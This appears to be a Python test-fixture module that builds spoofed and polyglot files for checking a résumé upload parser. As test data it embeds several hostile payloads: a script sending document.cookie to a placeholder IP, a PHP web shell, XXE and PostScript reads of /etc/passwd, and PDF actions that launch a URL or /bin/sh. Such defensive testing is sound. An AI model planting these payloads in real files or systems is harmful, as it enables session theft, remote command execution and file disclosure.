"""Files of one kind under the name of another, and files that are two kinds at once."""

from __future__ import annotations

import gzip
import io
import struct
import tarfile
from collections.abc import Iterator

from e2e.attacks.parser.packages import document, docx, zipped
from e2e.attacks.parser.pdf_files import page_of

_SCRIPT = "<script>fetch('http://192.0.2.1/'+document.cookie)</script>"


def spoofed() -> Iterator[tuple[str, bytes]]:
    """Yield contents that are no résumé under names that promise one; all are to be refused."""
    yield from _programs()
    yield from _media()
    yield from _office()
    yield from _two_in_one()


def _programs() -> Iterator[tuple[str, bytes]]:
    yield "windows.pdf", b"MZ\x90\x00\x03" + bytes(200) + b"PE\x00\x00"
    yield "linux.docx", b"\x7fELF\x02\x01\x01" + bytes(300)
    yield "java.pdf", b"\xca\xfe\xba\xbe\x00\x00\x004" + bytes(100)
    yield "macos.txt", b"\xcf\xfa\xed\xfe\x07\x00\x00\x01" + bytes(100)
    yield "wasm.md", b"\x00asm\x01\x00\x00\x00" + bytes(50)
    yield "php.txt", b"<?php system($_GET['c']); ?>"
    yield "postscript.pdf", b"%!PS-Adobe-3.0\n(/etc/passwd) (r) file"
    yield "shortcut.docx", b"L\x00\x00\x00\x01\x14\x02\x00" + bytes(100)
    yield "database.txt", b"SQLite format 3\x00" + bytes(100)


def _media() -> Iterator[tuple[str, bytes]]:
    yield "png.pdf", b"\x89PNG\r\n\x1a\n" + bytes(100)
    yield "jpeg.docx", b"\xff\xd8\xff\xe0\x00\x10JFIF" + bytes(100)
    yield "gif.html", b"GIF89a" + bytes(100)
    yield "svg.html", f"<svg xmlns='http://www.w3.org/2000/svg'>{_SCRIPT}</svg>".encode()
    yield "svg_with_prolog.html", b'<?xml version="1.0"?><!DOCTYPE svg><svg onload="x()"/>'
    yield "xml.txt", b"<?xml version='1.0'?><!DOCTYPE a SYSTEM 'file:///etc/passwd'><a/>"
    yield "mp4.pdf", struct.pack(">I", 24) + b"ftypisom" + bytes(100)
    yield "gzip.docx", gzip.compress(page_of(""))
    yield "tar.pdf", _tar()
    yield "seven_zip.docx", b"7z\xbc\xaf\x27\x1c\x00\x04" + bytes(60)
    yield "rar.docx", b"Rar!\x1a\x07\x01\x00" + bytes(60)
    yield "empty.pdf", b""


def _tar() -> bytes:
    packed = io.BytesIO()
    with tarfile.open(fileobj=packed, mode="w") as archive:
        archive.addfile(tarfile.TarInfo("resume.pdf"), io.BytesIO(b""))
    return packed.getvalue()


def _office() -> Iterator[tuple[str, bytes]]:
    office = "application/vnd.openxmlformats-officedocument."
    for name, main in {
        "spreadsheet": f"{office}spreadsheetml.sheet.main+xml",
        "slides": f"{office}presentationml.presentation.main+xml",
        "macros": "application/vnd.ms-word.document.macroEnabled.main+xml",
    }.items():
        types = f"<Types><Override PartName='/word/document.xml' ContentType='{main}'/></Types>"
        members = {"[Content_Types].xml": types, "word/document.xml": document("")}
        yield f"{name}.docx", zipped(members)
    yield "java_archive.docx", zipped({"META-INF/MANIFEST.MF": "Main-Class: X", "X.class": "x"})
    yield "book.odt", zipped({"mimetype": "application/epub+zip"})
    yield "drawing.odt", zipped({"mimetype": "application/vnd.oasis.opendocument.graphics"})
    yield "plain_archive.docx", zipped({"resume.pdf": "x"})
    old_office = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600)
    yield "old_word.docx", old_office


def _two_in_one() -> Iterator[tuple[str, bytes]]:
    pdf = page_of("BT /F1 12 Tf 72 700 Td (Erika) Tj ET")
    word = docx("<w:p><w:r><w:t>Erika</w:t></w:r></w:p>")
    yield "pdf_then_archive.pdf", pdf + word
    yield "archive_then_pdf.docx", word + pdf
    yield "page_then_archive.html", b"<!doctype html><p>Erika</p>" + word
    yield "image_then_pdf.pdf", b"\xff\xd8\xff\xe0" + pdf
    yield "image_then_archive.docx", b"GIF89a" + word
    yield "program_then_archive.docx", b"#!/bin/sh\nexit\n" + word
    yield "text_with_zero.txt", b"Erika Example\x00\x01\x02" + bytes(100)


def harmless() -> Iterator[tuple[str, bytes, str]]:
    """Yield files that may be read as the kind named, whatever else hides in them."""
    shown = "BT /F1 12 Tf 72 700 Td (Erika) Tj ET"
    action = "/OpenAction<</S/JavaScript/JS(app.launchURL\\('http://192.0.2.1'\\))>>"
    launch = "/OpenAction<</S/Launch/F(/bin/sh)>>"
    yield "javascript.pdf", page_of(shown, catalog=action), "pdf"
    yield "launches.pdf", page_of(shown, catalog=launch), "pdf"
    head = b"%PDF-1.7\n%" + _SCRIPT.encode() + b"\n"
    yield "page_in_a_comment.pdf", page_of(shown).replace(b"%PDF-1.7\n", head), "pdf"
    yield "pdf_called_word.docx", page_of(shown), "pdf"
    word = docx("<w:p><w:r><w:t>Erika</w:t></w:r></w:p>")
    yield "word_called_pdf.pdf", word, "docx"
    yield "page_called_text.txt", f"<html><body>Erika{_SCRIPT}</body></html>".encode(), "html"
    yield "rich_text_called_word.docx", b"{\\rtf1 Erika}", "rtf"
    yield "text_called_pdf.pdf", b"Erika Example\nBookkeeper\n", "txt"
    yield "script_called_pdf.pdf", b"#!/bin/sh\necho Erika\n", "txt"
    outside = "<w:altChunk r:id='x' xmlns:r='urn:r'/><w:p><w:r><w:t>Erika</w:t></w:r></w:p>"
    yield "chunk_from_outside.docx", docx(outside), "docx"
